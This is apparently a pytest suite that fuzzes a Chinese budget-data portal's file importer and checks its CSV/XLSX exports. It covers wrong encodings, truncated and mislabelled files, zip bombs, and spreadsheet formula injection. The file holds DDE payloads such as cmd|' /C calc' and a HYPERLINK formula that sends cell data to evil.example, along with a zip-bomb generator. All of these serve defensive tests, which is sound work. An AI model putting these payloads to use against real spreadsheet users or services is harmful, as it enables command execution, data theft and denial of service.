"""Hostile import files and spreadsheet-safe exports (issue #8, import fuzzing).

Every hostile file is generated here in tmp_path. Each must be refused with a Chinese message naming
the file (and row/column where there is one) — through publish_files (what both the CLI and the staff
upload form call), the real CLI, and the upload form — while the previous publication keeps serving
and a `failed` publication row is recorded. Downloads must render formula-looking text inert.
"""
import csv
import io
import os
import re
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from community_support import create_staff, csrf_token, login, make_portal, write_small_raw
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update
from test_import import small_dataset, write_csv

from ledger import schema
from ledger.db import current_publication
from ledger.importer.readers import MAX_FIELD_CHARS
from portal.publishing import publish_files

DEPT_HEADER = ["单位代码", "单位名称", "地区代码"]
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
# A cell a spreadsheet would evaluate: starts with one of these and is not a plain number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[-+]?\d[\d,]*(\.\d+)?%?")


# ---- helpers ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def portal(tmp_path_factory):
    """A portal with one good publication; every hostile import below runs against it."""
    return make_portal(tmp_path_factory.mktemp("fuzz"))


def publications(app):
    with app.extensions["mingzhang.engine"].connect() as conn:
        rows = conn.execute(select(schema.publications).order_by(schema.publications.c.id)).mappings().all()
        return [dict(r) for r in rows], current_publication(conn)["id"]


def refused(app, paths):
    """Import through publish_files; assert it failed atomically and return the error strings."""
    before, serving = publications(app)
    publication, errors = publish_files(app, paths, dataset="fuzz", title="恶意文件", created_by="tests")
    assert publication is None and errors
    after, still_serving = publications(app)
    assert still_serving == serving, "the previous publication must keep serving"
    assert len(after) == len(before) + 1 and after[-1]["status"] == "failed"
    assert after[-1]["error"]  # the reason is kept for staff
    return [str(e) for e in errors]


def dataset_with(tmp_path, name, content):
    """The good small dataset with one file replaced (bytes) or added; returns the folder."""
    folder = small_dataset(tmp_path / "raw")
    (folder / name).write_bytes(content)
    return folder


def departments_workbook(path, rows=(("D001", "东城区教育局", "990101"),), sheet="预算单位"):
    workbook = Workbook()
    ws = workbook.active
    ws.title = sheet
    ws.append(DEPT_HEADER)
    for row in rows:
        ws.append(list(row))
    workbook.save(path)
    return path


def rewrite_member(path, member, transform):
    """Rewrite one member of an XLSX (zip) in place."""
    with zipfile.ZipFile(path) as src:
        items = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in items:
            out.writestr(info.filename, transform(data) if info.filename == member else data)


def inflating_sheet(source, target, megabytes):
    """A copy of ``source`` whose first sheet is ``megabytes`` MB of repeated department rows."""
    row = b'<row><c t="inlineStr"><is><t>D9</t></is></c><c t="inlineStr"><is><t>x</t></is></c></row>' * 1000
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info.filename, src.read(info.filename))
                continue
            xml = src.read(info.filename)
            head, tail = xml.split(b"</sheetData>")
            with out.open(info.filename, "w", force_zip64=True) as member:
                member.write(head)
                for _ in range(megabytes * (1 << 20) // len(row)):
                    member.write(row)
                member.write(b"</sheetData>" + tail)
    return target


def inert(cell):
    return not (isinstance(cell, str) and cell.startswith(FORMULA_START)) or PLAIN_NUMBER.fullmatch(cell)


# ---- encodings, truncation, wrong formats ---------------------------------------------------------

GBK_REGIONS = "地区代码,地区名称,上级地区代码,层级\n990000,示例市,,0\n990101,东城区,990000,1\n"


@pytest.mark.parametrize("name,content,fragments,row", [
    ("regions.csv", GBK_REGIONS.encode("gbk"), ["不是 UTF-8", "GBK", "CSV UTF-8"], 1),
    ("regions.csv", ("地区代码,地区名称,上级地区代码,层级\n990000,示例市,,0\n"
                     "990101,东城区𠀀,990000,1\n").encode("gb18030"), ["不是 UTF-8", "GB18030"], 1),
    ("regions.csv", GBK_REGIONS.encode("utf-16"), ["UTF-16", "CSV UTF-8"], None),
    ("regions.csv", GBK_REGIONS.encode("utf-8")[:-5] + "区".encode()[:2], ["不完整", "截断"], 3),
    ("departments.csv", "单位代码,单位名称,地区代码\nD001,\"东城区教育局".encode(), ["引号未闭合", "截断"], 2),
    ("departments.csv", "单位代码,单位名称,地区代码\r\nD001,东城区教".encode(), ["截断", "最后一行只有 2 列"], 2),
    ("departments.csv", b"", ["文件为空"], None),
    ("departments.csv", "单位代码,单位名称,地区代码\r\n".encode(), ["只有表头"], None),
    ("departments.csv", "\ufeff单位代码,单位名称,单位名称,地区代码\r\nD001,甲,乙,990101\r\n".encode(),
     ["「单位名称」出现了两次", "第2列和第3列"], 1),
    ("departments.csv", "单位代码,单位名称,地区代码\r\nD001,东城区\x00教育局,990101\r\n".encode(),
     ["控制字符", "U+0000", "列「单位名称」"], 2),
    ("departments.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(200), ["扩展名是 .xlsx", "PNG 图片"], None),
    ("表7-6.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(200), ["PNG 图片"], None),
    ("departments.xlsx", "单位代码,单位名称,地区代码\nD001,x,990101\n".encode(), ["不是 Excel 工作簿"], None),
    ("departments.xlsx", b"", ["文件为空"], None),
], ids=["gbk", "gb18030", "utf16", "cut-utf8-char", "cut-in-quotes", "cut-mid-row", "empty", "header-only",
        "duplicate-header", "nul-byte", "png-as-xlsx", "png-as-yearbook", "csv-as-xlsx", "empty-xlsx"])
def test_unreadable_files_are_refused_with_a_chinese_message(portal, tmp_path, name, content, fragments, row):
    folder = small_dataset(tmp_path / "raw")
    if name.startswith("departments"):
        (folder / "departments.csv").unlink()
    (folder / name).write_bytes(content)
    messages = refused(portal, [folder])
    mine = [m for m in messages if f"文件「{name}」" in m]
    assert mine, messages
    assert any(all(f in m for f in fragments) for m in mine), mine
    if row:
        assert any(f"第{row}行" in m for m in mine), mine


def test_xlsx_renamed_csv_and_truncated_xlsx(portal, tmp_path):
    folder = small_dataset(tmp_path / "raw")
    departments_workbook(tmp_path / "book.xlsx")
    (folder / "departments.csv").write_bytes((tmp_path / "book.xlsx").read_bytes())
    messages = refused(portal, [folder])
    assert any("departments.csv" in m and "扩展名是 .csv" in m and "Excel" in m for m in messages), messages

    (folder / "departments.csv").unlink()
    data = (tmp_path / "book.xlsx").read_bytes()
    for name in ("departments.xlsx", "年鉴表.xlsx"):  # documented layout, and the yearbook path
        (folder / name).write_bytes(data[: len(data) // 2])
        messages = refused(portal, [folder])
        assert any(name in m and "损坏或不完整" in m for m in messages), messages
        (folder / name).unlink()


def test_utf8_with_bom_and_a_stray_header_bom_import(portal, tmp_path):
    folder = small_dataset(tmp_path / "raw")
    # Excel's «CSV UTF-8» BOM, and a second BOM that some tools add when concatenating files.
    (folder / "departments.csv").write_bytes("\ufeff\ufeff单位代码,单位名称,地区代码\r\nD001,东城区教育局,990101\r\n"
                                             .encode("utf-8"))
    # A whole dataset of its own (no projects): it replaces the portal's rather than carrying them forward.
    publication, errors = publish_files(portal, [folder], dataset="fuzz", title="BOM", created_by="tests",
                                        replace=True)
    assert errors == [] and publication["row_counts"]["departments"] == 1


# ---- formula injection on import ------------------------------------------------------------------

@pytest.mark.parametrize("payload", INJECTIONS, ids=["hyperlink", "plus-cmd", "minus-dde", "at-sum", "tab",
                                                     "cr", "fullwidth"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_injection_is_refused_with_row_and_column(portal, tmp_path, payload, fmt):
    folder = small_dataset(tmp_path / "raw")
    (folder / "departments.csv").unlink()
    if fmt == "csv":
        write_csv(folder / "departments.csv", DEPT_HEADER, [["D001", payload, "990101"]])
        name = "departments.csv"
    else:
        name = "departments.xlsx"
        departments_workbook(folder / name, rows=[("D001", "placeholder", "990101")])
        workbook = load_workbook(folder / name)
        cell = workbook.active["B2"]
        cell.value = payload
        cell.data_type = "s"  # a text cell holding formula-like text, as a hostile export would write it
        workbook.save(folder / name)
    messages = refused(portal, [folder])
    assert any(name in m and "第2行" in m and "列「单位名称」" in m and "公式" in m for m in messages), messages


def test_numbers_and_phone_numbers_with_a_sign_are_not_formulas():
    from ledger.importer.layout import LAYOUTS
    from ledger.importer.validate import _convert

    phone = LAYOUTS["payments"].column("payee_phone")
    assert _convert(phone, "+86 138-1234-5678") == "+86 138-1234-5678"
    name = LAYOUTS["departments"].column("name")
    assert _convert(name, "-5") == "-5" and _convert(name, "-") == "-"  # «none», as Chinese tables write it
    with pytest.raises(ValueError, match="公式"):
        _convert(name, "- 已完工")  # Excel would evaluate this (#NAME?)
    with pytest.raises(ValueError, match="公式"):
        _convert(phone, "+86+cmd|' /C calc'!A0")


@pytest.mark.parametrize("amount,fragment", [("1E+999999", "无法识别的金额"), ("1" * 25, "金额过大")])
def test_absurd_amounts_are_refused_not_crashing_the_database(portal, tmp_path, amount, fragment):
    folder = small_dataset(tmp_path / "raw", budget=amount)
    messages = refused(portal, [folder])
    assert any("budgets.csv" in m and "第2行" in m and fragment in m for m in messages), messages


# ---- gigantic files ---------------------------------------------------------------------------------

def test_xlsx_zip_bomb_is_refused_before_inflating(portal, tmp_path):
    folder = small_dataset(tmp_path / "raw")
    (folder / "departments.csv").unlink()
    # 1) an honest bomb: the sheet itself is 200 MB of rows (~2 million) that deflate to about 1 MB.
    bomb = inflating_sheet(departments_workbook(tmp_path / "book.xlsx"), folder / "departments.xlsx", 200)
    assert bomb.stat().st_size < 2 << 20
    started = time.process_time()  # CPU, not wall: inflating 200 MB would take it, a loaded machine would not
    messages = refused(portal, [folder])
    assert time.process_time() - started < 10
    assert any("departments.xlsx" in m and "压缩炸弹" in m for m in messages), messages
    # 2) the same in a workbook that goes to the yearbook reader (no documented sheet name).
    bomb.rename(folder / "统计年鉴表.xlsx")
    messages = refused(portal, [folder])
    assert any("统计年鉴表.xlsx" in m and "压缩炸弹" in m for m in messages), messages
    # 3) a member whose header declares 4 GB: refused from the declaration alone.
    (folder / "统计年鉴表.xlsx").unlink()
    liar = departments_workbook(folder / "departments.xlsx")
    data = bytearray(liar.read_bytes())
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 0xFFFF0000)  # uncompressed size of the first member
    liar.write_bytes(bytes(data))
    messages = refused(portal, [folder])
    assert any("departments.xlsx" in m and ("压缩炸弹" in m or "损坏" in m) for m in messages), messages


def test_xlsx_whose_dimension_claims_a_million_rows_imports_quickly(portal, tmp_path):
    folder = small_dataset(tmp_path / "raw")
    (folder / "departments.csv").unlink()
    book = departments_workbook(folder / "departments.xlsx")
    rewrite_member(book, "xl/worksheets/sheet1.xml",
                   lambda xml: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', xml))
    assert b"A1:XFD1048576" in zipfile.ZipFile(book).read("xl/worksheets/sheet1.xml")
    # CPU seconds, not wall: a million padded rows would take minutes of CPU, while a loaded machine
    # (the suite beside other work) stretches the wall clock of a fast import past any fixed bound
    started = time.process_time()
    publication, errors = publish_files(portal, [folder], dataset="fuzz", title="维度", created_by="tests",
                                        replace=True)
    assert errors == [] and publication["row_counts"]["departments"] == 1
    assert time.process_time() - started < 20
    # A stray cell in the very last row and column does not make a million padded rows either.
    workbook = load_workbook(book)
    workbook.active.cell(row=1_048_576, column=16_384, value="角落")
    workbook.save(book)
    started = time.process_time()
    publication, errors = publish_files(portal, [folder], dataset="fuzz", title="角落", created_by="tests",
                                        replace=True)
    assert errors == [] and publication["row_counts"]["departments"] == 1
    assert time.process_time() - started < 20


def _cli(tmp_path, *args, env=None):
    cli = Path(sys.executable).with_name("mingzhang")
    environment = {**os.environ, "MINGZHANG_INSTANCE": str(tmp_path / "inst"), "SEARCH_HYBRID": "0",
                   "NLQ_EMBEDDINGS": "0", **(env or {})}
    return subprocess.run([str(cli), "import", *map(str, args)], capture_output=True, text=True,
                          env=environment, timeout=120)


def _cli_peak_mb(tmp_path, *args, env=None):
    """(CompletedProcess, peak RSS in MB) of one CLI run, for that run alone.

    A child forked from this (large) test process inherits its high-water mark through exec, and
    RUSAGE_CHILDREN is the largest child of the whole session; so a small launcher runs the CLI and
    reports its own child's peak."""
    cli = Path(sys.executable).with_name("mingzhang")
    environment = {**os.environ, "MINGZHANG_INSTANCE": str(tmp_path / "inst"), "SEARCH_HYBRID": "0",
                   "NLQ_EMBEDDINGS": "0", **(env or {})}
    launcher = ("import resource, subprocess, sys\n"
                "code = subprocess.call(sys.argv[1:], stdout=subprocess.DEVNULL)\n"
                "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, flush=True)\n"
                "sys.exit(code)\n")
    result = subprocess.run([sys.executable, "-c", launcher, str(cli), "import", *map(str, args)],
                            capture_output=True, text=True, env=environment, timeout=180)
    return result, int(result.stdout.strip().splitlines()[-1]) / 1024


def test_cli_gigantic_csv_is_refused_with_bounded_memory(tmp_path):
    good = write_small_raw(tmp_path / "good")
    assert _cli(tmp_path, good).returncode == 0
    # A 10 MB single field: longer than any column accepts (a report body is at most 2,000,000 字).
    folder = small_dataset(tmp_path / "huge-field")
    write_csv(folder / "departments.csv", DEPT_HEADER, [["D001", "财" * ((10 << 20) // 3), "990101"]])
    result = _cli(tmp_path, folder)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "departments.csv" in result.stderr and "第2行" in result.stderr
    assert f"{MAX_FIELD_CHARS:,}" in result.stderr, result.stderr
    # A million rows: streamed and stopped at the row cap (lowered here to keep the test fast).
    folder = small_dataset(tmp_path / "million")
    with open(folder / "payments.csv", "w", encoding="utf-8", newline="") as fh:
        fh.write("凭证号,支付日期,金额（元）,收款人,收款人类型\n")
        fh.writelines(f"P{i},2025-02-03,{i % 9000 + 100}.50,示例建设工程有限公司,单位\n" for i in range(1_000_000))
    result, peak_mb = _cli_peak_mb(tmp_path, folder, env={"IMPORT_MAX_ROWS": "50000"})
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "payments.csv" in result.stderr and "第50002行" in result.stderr and "50,000" in result.stderr
    assert peak_mb < 800, f"child peak RSS {peak_mb:.0f} MB"
    # Nothing of either attempt was published; both are recorded as failed.
    from sqlalchemy import create_engine
    engine = create_engine(f"sqlite:///{tmp_path / 'inst' / 'mingzhang.db'}")
    with engine.connect() as conn:
        statuses = [r.status for r in conn.execute(select(schema.publications.c.status)
                                                   .order_by(schema.publications.c.id))]
        assert statuses == ["published", "failed", "failed"]
        assert current_publication(conn)["id"] == 1
    engine.dispose()


# ---- the staff upload form -----------------------------------------------------------------------------

@pytest.fixture()
def publisher(tmp_path):
    app = make_portal(tmp_path, MAX_CONTENT_LENGTH=2 << 20)
    create_staff(app, "pete", "publisher")
    client = app.test_client()
    login(client, "pete")
    return app, client


def upload(client, files):
    token = csrf_token(client, "/admin/upload")
    data = {"csrf_token": token, "title": "上传测试", "dataset": "fuzz",
            "files": [(io.BytesIO(content), name) for name, content in files]}
    return client.post("/admin/upload", data=data, content_type="multipart/form-data")


def test_upload_larger_than_the_limit_gets_a_chinese_page(publisher):
    app, client = publisher
    big = ("凭证号,支付日期,金额（元）,收款人,收款人类型\n" + "P1,2025-01-01,1,甲公司,单位\n" * 100_000).encode()
    assert len(big) > app.config["MAX_CONTENT_LENGTH"]
    response = upload(client, [("payments.csv", big)])
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "上传的文件过大" in page and "2 MB" in page and "<html" in page.lower()
    assert publications(app)[1] == 1


def test_hostile_uploads_get_row_level_chinese_errors_and_nothing_is_published(publisher, tmp_path):
    app, client = publisher
    raw = write_small_raw(tmp_path / "raw")
    good = {p.name: p.read_bytes() for p in raw.iterdir()}
    bomb = inflating_sheet(departments_workbook(tmp_path / "book.xlsx"), tmp_path / "bomb.xlsx", 300)
    cases = [
        ("departments.csv", "单位代码,单位名称,地区代码\nD001,东城区交通局,990101\n".encode("gbk"), "GBK"),
        ("departments.csv", '单位代码,单位名称,地区代码\nD001,"=HYPERLINK(""http://x"",""点我"")",990101\n'.encode(),
         r"<td>departments\.csv</td><td></td><td>2</td><td>单位名称</td><td>[^<]*公式"),
        ("departments.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(100), "PNG 图片"),
        ("departments.xlsx", bomb.read_bytes(), "压缩炸弹"),
        ("departments.csv", "单位代码,单位名称,地区代码\n".encode(), "只有表头"),
    ]
    assert len(bomb.read_bytes()) < app.config["MAX_CONTENT_LENGTH"]
    for name, content, fragment in cases:
        files = {**{k: v for k, v in good.items() if k != "departments.csv"}, name: content}
        response = upload(client, list(files.items()))
        page = response.get_data(as_text=True)
        assert response.status_code == 422, (name, fragment, page[:500])
        assert re.search(fragment, page) and name in page, (fragment, page)
        assert "Traceback" not in page
    rows, serving = publications(app)
    assert serving == 1 and [r["status"] for r in rows] == ["published"] + ["failed"] * len(cases)


# ---- exports ---------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """The small publication with formula payloads in imported names and notes.

    The importer now refuses such text, so they are written straight into the database, as an older
    publication (imported before the check) would hold them.
    """
    from small_publication import EAST, WEST, make_app

    app, pub = make_app(tmp_path_factory.mktemp("poisoned"), {"SEARCH_HYBRID": "0", "NLQ_EMBEDDINGS": False})
    pid = pub["id"]
    edits = [
        (schema.regions, schema.regions.c.code == EAST, {"name": INJECTIONS[0], "short_name": INJECTIONS[0]}),
        (schema.regions, schema.regions.c.code == WEST, {"name": INJECTIONS[6], "short_name": INJECTIONS[6]}),
        (schema.departments, schema.departments.c.code == "D1", {"name": INJECTIONS[1]}),
        (schema.func_classes, schema.func_classes.c.code == "201", {"name": INJECTIONS[3]}),
        (schema.projects, schema.projects.c.code == "P1", {"name": INJECTIONS[2], "category": INJECTIONS[4]}),
        (schema.projects, schema.projects.c.code == "P2", {"contractor": INJECTIONS[5]}),
        (schema.documents, schema.documents.c.slug == "2024-h1-execution", {"title": INJECTIONS[0]}),
    ]
    with app.extensions["mingzhang.engine"].begin() as conn:
        for table, where, values in edits:
            assert conn.execute(update(table).where(where, table.c.publication_id == pid).values(**values)).rowcount
    return app


def _csv_cells(body):
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(body):
    workbook = load_workbook(io.BytesIO(body))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def _download_urls(app):
    from small_publication import EAST, WEST

    from ledger.datadict import DATASETS

    compare = f"region={EAST}&region={WEST}"
    urls = ["/execution.csv", "/execution.csv?table=classes", f"/execution/region/{EAST}.csv",
            f"/execution/region/{EAST}/dept/D1.csv", "/records/expenditures.csv", "/records/budgets.csv",
            "/records/payments.csv", "/projects.csv", f"/compare.csv?{compare}", f"/compare.xlsx?{compare}",
            "/ask.csv?q=" + "=HYPERLINK(\"http://evil\")2024年各区支出"]
    urls += [f"/data/{name}.{fmt}" for name in DATASETS for fmt in ("csv", "xlsx")]
    return urls


def test_every_download_renders_formula_text_inert(poisoned):
    client = poisoned.test_client()
    seen = set()
    for url in _download_urls(poisoned):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code, response.get_data(as_text=True)[:300])
        cells = _xlsx_cells(response.data) if ".xlsx" in url else _csv_cells(response.data)
        live = [c for c in cells if not inert(c)]
        assert not live, (url, live[:5])
        seen.update(c for c in cells if isinstance(c, str) and c.startswith("'"))
    for payload in INJECTIONS:  # the check is not vacuous: every payload went out, neutralised
        assert any(payload in cell for cell in seen), (payload, sorted(seen)[:20])
    assert any(cell.startswith("'=HYPERLINK(\"http://evil\")") for cell in seen)  # the question echo


def test_xlsx_export_survives_control_characters(poisoned):
    from portal.exports import xlsx_response

    with poisoned.test_request_context():
        response = xlsx_response("t.xlsx", "表/[1]", ["名称"], [["东城\x00区\x1f", "=1+1"], [None, -5]])
        response.direct_passthrough = False
        values = _xlsx_cells(response.get_data())
    assert "东城区" in values and "'=1+1" in values and -5 in values


def test_a_long_report_body_within_the_column_limit_imports(portal, tmp_path):
    """The csv module's default 131,072-character field limit used to refuse real report bodies."""
    folder = small_dataset(tmp_path / "raw")
    body = "一、总体情况\n\n" + "全市一般公共预算支出稳步推进。" * 20_000  # about 300,000 字
    write_csv(folder / "documents.csv", ["文档编号", "标题", "类型", "年度", "正文"],
              [["report-2025", "2025年预算执行情况的报告", "执行情况", "2025", body]])
    publication, errors = publish_files(portal, [folder], dataset="fuzz", title="长报告", created_by="tests",
                                        replace=True)
    assert errors == [] and publication["row_counts"]["documents"] == 1
